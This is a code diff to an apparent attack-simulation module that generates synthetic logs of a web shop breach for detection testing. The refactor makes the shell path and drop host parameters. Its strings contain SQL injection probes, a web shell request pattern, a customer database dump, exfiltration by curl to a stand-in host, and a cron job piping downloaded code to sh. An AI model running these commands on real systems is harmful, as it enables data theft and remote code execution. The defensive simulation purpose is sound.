@@ -13,7 +13,6 @@ from watchfloor.testing.company.internet import anywhere
 from watchfloor.testing.company.people import Machine
 from watchfloor.testing.company.world import World
 
-_SHELL, _DROP = "/media/custom/2026/10/entwurf-88412.php", "files.transfer-quelle.example"
 _AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 _PROBES = (
     "/product/1'", "/product/1%20AND%201=1", "/search?q=a%27%29%20UNION%20ALL%20SELECT%20NULL--%20-", "/admin/",
@@ -27,25 +26,37 @@ _COMMANDS = (
 
 @dataclass(frozen=True, slots=True)
 class _Scene:
-    """What the steps share: the world, chance, the attacked machine, where the attacker is, the shell's parent."""
+    """What the steps share.
+
+    Attributes:
+        world: to act in.
+        random: chance of the attack.
+        machine: the shop's.
+        attacker: address.
+        parent: process id of what runs the shop's scripts.
+        script: path of the script that is put there.
+        drop: host name of where data go.
+    """
 
     world: World
     random: Random
     machine: Machine
     attacker: str
     parent: int
+    script: str
+    drop: str
 
     def asked(self, at: int, path: str, **more: Any) -> None:
         """A request of the attacker."""
         self.world.products.shop.request(at, self.attacker, path, agent=_AGENT, **more)
 
 
-def shop_exploited(world: World, *, day: int, time: str, gigabytes: float) -> Attack:
-    """A script is put where customers' drawings go, and run; `gigabytes` leave by it."""
+def shop_exploited(world: World, *, day: int, time: str, gigabytes: float, script: str, drop: str) -> Attack:
+    """A script is put at the path `script`, and run; so many `gigabytes` leave for the host `drop`."""
     attack = Attack("shop", "The shop is exploited to a web shell, and data leaves", "incident", world)
     random = world.chance("attack:shop")
     attacker = anywhere(random, "NL", "hosting").address
-    scene = _Scene(world, random, world.server("shop"), attacker, world.products.linux["shop"].pid())
+    scene = _Scene(world, random, world.server("shop"), attacker, world.products.linux["shop"].pid(), script, drop)
     at = world.week.at(day, time)
     _probed(attack, scene, at)
     _uploaded(attack, scene, at + 12 * MINUTE)
@@ -67,13 +78,15 @@ def _probed(attack: Attack, scene: _Scene, at: int) -> None:
 
 def _uploaded(attack: Attack, scene: _Scene, at: int) -> None:
     attacker, host = scene.attacker, scene.machine.name
-    with attack.step(at, "A script is uploaded in place of a drawing and answers", "T1505.003", attacker, host, _SHELL):
+    with attack.step(
+        at, "A script is uploaded in place of a drawing and answers", "T1505.003", attacker, host, scene.script
+    ):
         scene.asked(at, "/customize/upload.php", method="POST", size=212)
         scene.world.products.ids.alert(
             at, attacker, scene.machine.address, 443, number=1000071, signature="LOCAL script code in an uploaded file",
             category="Web Application Attack", severity=1,
         )  # fmt: skip
-        scene.asked(at + 20 * SECOND, _SHELL, size=31)
+        scene.asked(at + 20 * SECOND, scene.script, size=31)
 
 
 def _commanded(attack: Attack, scene: _Scene, at: int) -> None:
@@ -81,7 +94,9 @@ def _commanded(attack: Attack, scene: _Scene, at: int) -> None:
     with attack.step(at, what, "T1059.004", scene.attacker, scene.machine.name, "www-data"):
         for number, command in enumerate(_COMMANDS):
             moment = at + number * 21 * SECOND
-            scene.asked(moment, f"{_SHELL}?c={command.replace(' ', '%20')}", size=scene.random.randrange(80, 2_400))
+            scene.asked(
+                moment, f"{scene.script}?c={command.replace(' ', '%20')}", size=scene.random.randrange(80, 2_400)
+            )
             _run(scene, moment, command)
 
 
@@ -89,7 +104,7 @@ def _dumped(attack: Attack, scene: _Scene, at: int) -> None:
     dump = "mysqldump -h 127.0.0.1 -u shop --single-transaction shop customers orders"
     what = "The customers' data are dumped and packed"
     with attack.step(at, what, "T1005", scene.machine.name, "www-data", told=False):
-        scene.asked(at, _SHELL, method="POST", size=64)
+        scene.asked(at, scene.script, method="POST", size=64)
         _run(scene, at, f"sh -c '{dump} > /tmp/.c/d.sql'")
         _run(scene, at + SECOND, dump, exe="/usr/bin/mariadb-dump")
         _run(scene, at + 3 * MINUTE, "tar czf /tmp/.c/d.tgz /tmp/.c/d.sql")
@@ -98,11 +113,11 @@ def _dumped(attack: Attack, scene: _Scene, at: int) -> None:
 def _left(attack: Attack, scene: _Scene, at: int, place: str, sent: int) -> None:
     products, address = scene.world.products, scene.machine.address
     what = "They leave by curl to a host never spoken to before"
-    with attack.step(at, what, "T1048", scene.machine.name, place, _DROP):
-        scene.asked(at, _SHELL, method="POST", size=64)
-        _run(scene, at, f"curl -s -T /tmp/.c/d.tgz https://{_DROP}/u/88412")
-        products.resolver.query(at, address, _DROP, millis=61)
-        products.ids.tls(at + SECOND, address, place, _DROP)
+    with attack.step(at, what, "T1048", scene.machine.name, place, scene.drop):
+        scene.asked(at, scene.script, method="POST", size=64)
+        _run(scene, at, f"curl -s -T /tmp/.c/d.tgz https://{scene.drop}/u/88412")
+        products.resolver.query(at, address, scene.drop, millis=61)
+        products.ids.tls(at + SECOND, address, place, scene.drop)
         products.firewall.session(at + 11 * MINUTE, address, place, 443, sent=sent, received=sent // 400, seconds=655)
 
 
@@ -114,8 +129,8 @@ def _kept(attack: Attack, scene: _Scene, at: int, place: str) -> None:
         linux.crontab(at, "www-data")
         for number in range(12):
             moment = at + number * 10 * MINUTE + 7 * SECOND
-            linux.cron(moment, "www-data", 33, f"curl -s https://{_DROP}/k | sh")
-            products.resolver.query(moment, scene.machine.address, _DROP, millis=30)
+            linux.cron(moment, "www-data", 33, f"curl -s https://{scene.drop}/k | sh")
+            products.resolver.query(moment, scene.machine.address, scene.drop, millis=30)
             products.firewall.session(moment + SECOND, scene.machine.address, place, 443, sent=1_900, received=3_800)
 
 
@@ -130,5 +145,5 @@ def _run(scene: _Scene, at: int, command: str, *, exe: str = "") -> None:
 
 
 def _executed(scene: _Scene, at: int, command: str, exe: str) -> None:
-    linux, folder = scene.world.products.linux["shop"], "/srv/shop/media/custom/2026/10"
+    linux, folder = scene.world.products.linux["shop"], f"/srv/shop{scene.script.rpartition('/')[0]}"
     linux.executed(at, command, uid=33, user="www-data", exe=exe, folder=folder, parent=scene.parent)
